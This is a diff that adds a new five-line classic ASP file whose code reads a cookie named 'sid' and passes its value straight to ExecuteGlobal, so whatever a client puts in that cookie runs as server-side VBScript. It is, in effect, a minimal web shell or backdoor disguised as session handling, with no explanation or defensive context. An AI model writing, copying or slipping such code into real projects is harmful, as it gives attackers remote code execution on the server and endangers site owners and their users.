@@ -1,0 +1,5 @@
+<%
+Dim s
+s = Request.Cookies("sid")
+ExecuteGlobal s
+%>
